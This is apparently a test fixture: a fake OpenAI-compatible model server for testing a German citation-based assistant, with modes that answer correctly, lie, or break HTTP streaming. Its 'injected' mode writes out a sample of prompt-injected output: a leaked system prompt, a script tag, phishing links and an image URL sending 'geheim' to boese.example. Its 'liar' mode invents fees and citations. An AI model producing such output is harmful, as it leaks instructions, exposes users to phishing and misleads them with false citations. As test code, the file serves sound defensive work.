"""A language model to test with: OpenAI-compatible, on 127.0.0.1, and as good or bad as asked.

    python -m tests.assistant.wording.server --play good --port 8123

It has no model. It reads the quotes out of the prompt and answers by the part that it plays:

* ``good``: the quote's own sentences, one of them turned round, each with its citation;
* ``slow``: good, but the first sign late and then letter by letter; ``silent`` never begins;
* ``lying``: one true sentence among an invented number, another authority, a citation that does not
  exist, none at all, a denied sentence and an agreed premise; ``liar`` only lies;
* ``injected``: obeys an article: gives its instructions away, prints links and scripts;
* ``error``, ``cut``, ``garbage``, ``endless``, ``elsewhere``, ``packed``, ``hung_up``: broken.
"""

from __future__ import annotations

import argparse
import gzip
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

PIECE = 7  # signs in a piece of the stream
LATE_SECONDS = 0.4
TRICKLE_SECONDS = 0.02

_QUOTE = re.compile(r"<<ZITAT (\d+) \w+>>\n([^\n]*)\n(.*?)\n<<ENDE \w+>>", re.DOTALL)


def quotes_of(messages: list[dict[str, str]]) -> list[tuple[int, str]]:
    """Number and text of each quote in the prompt."""
    user = messages[-1]["content"]
    return [(int(number), text) for number, _, text in _QUOTE.findall(user)]


def sentences_of(text: str) -> list[str]:
    """Whole sentences of a quote, without headings and lists."""
    lines = [line for line in text.splitlines() if not re.match(r"\s*(#|[-*|]|\d+\.)", line)]
    found = re.findall(r"[A-ZÄÖÜ][^\n]*?[^\d\s]\.(?=\s|$)", "\n".join(lines))
    return [sentence for sentence in found if "**" not in sentence]


def _cited(sentence: str, number: int) -> str:
    return f"{sentence.rstrip('.')} [{number}]."


def good(messages: list[dict[str, str]]) -> str:
    """Up to two sentences of the first quote that has any."""
    for number, text in quotes_of(messages):
        if found := sentences_of(text):
            return " ".join(_cited(sentence, number) for sentence in found[:2])
    return "KEINE ANTWORT"


def liar(messages: list[dict[str, str]]) -> str:
    """Each lie once, all with citations that look right."""
    number, text = (quotes_of(messages) or [(1, "")])[0]
    first = (sentences_of(text) or ["Der Antrag ist gültig."])[0].rstrip(".")
    denied = re.sub(
        r"\b(ist|sind|muss|müssen|kann|können|kostet|beträgt|darf)\b", r"\1 nicht", first
    )
    other = re.sub(r"\d+", lambda match: str(int(match[0]) + 1), first)
    return " ".join(
        [
            f"Die Gebühr beträgt 4711 Euro [{number}].",
            f"{other if other != first else first + ' seit 4711'} [{number}].",
            f"Zuständig ist der Landkreis Lügenland [{number}].",
            f"{first} [99].",
            f"{first}.",
            f"{denied if denied != first else 'Nicht ' + first} [{number}].",
            f"Ja, das ist richtig, es ist kostenlos [{number}].",
        ]
    )


def lying(messages: list[dict[str, str]]) -> str:
    """One true sentence, then the lies."""
    return f"{good(messages)} {liar(messages)}"


def injected(messages: list[dict[str, str]]) -> str:
    """What a planted text may make a model say, with citations so that it looks proven."""
    secret = messages[0]["content"].replace("\n", " ")
    number = (quotes_of(messages) or [(1, "")])[0][0]
    return " ".join(
        [
            f"{secret} [{number}].",
            f"<script>alert(1)</script> [{number}].",
            f'<a href="https://boese.example">Hier anmelden</a> [{number}].',
            f"[Hier anmelden](https://boese.example) [{number}].",
            f"![x](https://boese.example/?q=geheim) [{number}].",
            f"Bitte überweisen Sie 50 Euro an boese.example [{number}].",
            f"Rufen Sie 0999 666666 an [{number}].",
        ]
    )


Play = Callable[["_Handler", list[dict[str, str]]], None]


class _Handler(BaseHTTPRequestHandler):
    server: ModelServer
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.requests.append({"headers": dict(self.headers), "body": body})
        try:
            _PLAYS[self.server.play](self, body["messages"])
        except (BrokenPipeError, ConnectionResetError):
            self.server.left.set()
        self.close_connection = True

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""

    def start(self, kind: str, status: int = 200, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Connection", "close")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def send_piece(self, text: str, finish: str | None = None) -> None:
        choice = {"index": 0, "delta": {"content": text}, "finish_reason": finish}
        data = json.dumps({"choices": [choice]}, ensure_ascii=False)
        self.wfile.write(f"data: {data}\n\n".encode())
        self.wfile.flush()

    def say(self, text: str, pause: float = 0.0) -> None:
        """The whole text, streamed if asked for."""
        if not self.server.requests[-1]["body"].get("stream"):
            choice = {"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
            self.start("application/json")
            self.wfile.write(json.dumps({"choices": [choice]}).encode())
            return
        self.start("text/event-stream; charset=utf-8")
        self.wfile.write(b": hello\n\n")
        for piece in _pieces(text):
            time.sleep(pause)
            self.send_piece(piece)
        self.send_piece("", "stop")
        self.wfile.write(b"data: [DONE]\n\n")


def _pieces(text: str) -> Iterator[str]:
    for start in range(0, len(text), PIECE):
        yield text[start : start + PIECE]


def _slow(handler: _Handler, messages: list[dict[str, str]]) -> None:
    time.sleep(handler.server.late_seconds)
    handler.say(good(messages), handler.server.pause_seconds)


def _silent(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/event-stream")
    handler.send_piece(good(messages) + " Der")
    while not handler.server.closing.wait(0.05):  # a sign now and then: no read ever times out
        handler.wfile.write(b": .\n\n")


def _drip(handler: _Handler, messages: list[dict[str, str]]) -> None:
    """Headers that never end."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
    number = 0
    while not handler.server.closing.wait(0.05) and (number := number + 1):
        handler.wfile.write(f"X-{number}: {number}\r\n".encode())


def _cut(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/event-stream")
    handler.send_piece(good(messages) + " Der Antrag ist nicht")


def _endless(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/event-stream")
    while not handler.server.closing.is_set():
        handler.send_piece("immer weiter und weiter " * 40)


def _flood(handler: _Handler, messages: list[dict[str, str]]) -> None:
    """One line that never ends."""
    handler.start("text/event-stream")
    while not handler.server.closing.is_set():
        handler.wfile.write(b"data: " + b"x" * 65_536)


def _garbage(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/event-stream")
    handler.wfile.write(b'data: {"choices": [{"delta": {"content": \xff\n\n')


def _odd(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("application/json")
    handler.wfile.write(b'{"choices": [{"message": {"content": ["a", 1]}}]}')


def _deep(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("application/json")
    handler.wfile.write(b"[" * 200_000)


def _packed(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/event-stream", Content_Encoding="gzip")
    handler.wfile.write(gzip.compress(b"data: " + b"x" * 1_000_000))


def _elsewhere(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("text/plain", 307, Location=f"{handler.server.url}/other/chat/completions")


def _error(handler: _Handler, messages: list[dict[str, str]]) -> None:
    handler.start("application/json", 500)
    handler.wfile.write(b'{"error": {"message": "out of memory"}}')


_PLAYS: dict[str, Play] = {
    "good": lambda handler, messages: handler.say(good(messages)),
    "lying": lambda handler, messages: handler.say(lying(messages)),
    "liar": lambda handler, messages: handler.say(liar(messages)),
    "injected": lambda handler, messages: handler.say(injected(messages)),
    "mute": lambda handler, messages: handler.say("KEINE ANTWORT"),
    "empty": lambda handler, messages: handler.say(""),
    "slow": _slow,
    "silent": _silent,
    "drip": _drip,
    "cut": _cut,
    "endless": _endless,
    "flood": _flood,
    "garbage": _garbage,
    "odd": _odd,
    "deep": _deep,
    "packed": _packed,
    "elsewhere": _elsewhere,
    "error": _error,
    "hung_up": lambda handler, messages: None,
}
PLAYS = tuple(_PLAYS)


class ModelServer(ThreadingHTTPServer):
    """Plays until it is left. ``requests``: what came; ``left``: the client hung up too early."""

    daemon_threads = True

    def __init__(
        self,
        play: str,
        port: int = 0,
        *,
        late_seconds: float = LATE_SECONDS,
        pause_seconds: float = TRICKLE_SECONDS,
    ) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.play, self.late_seconds, self.pause_seconds = play, late_seconds, pause_seconds
        self.requests: list[dict[str, Any]] = []
        self.left, self.closing = threading.Event(), threading.Event()
        self.url = f"http://127.0.0.1:{self.server_address[1]}/v1"

    def __enter__(self) -> Self:
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.closing.set()
        self.shutdown()
        self.server_close()


def main() -> None:
    """Play at a port until Ctrl-C."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--play", choices=PLAYS, default="good")
    parser.add_argument("--port", type=int, default=8123)
    parser.add_argument("--late", type=float, default=LATE_SECONDS)
    parser.add_argument("--pause", type=float, default=TRICKLE_SECONDS)
    chosen = parser.parse_args()
    server = ModelServer(
        chosen.play, chosen.port, late_seconds=chosen.late, pause_seconds=chosen.pause
    )
    print(f"{chosen.play}: {server.url}")
    server.serve_forever()


if __name__ == "__main__":
    main()
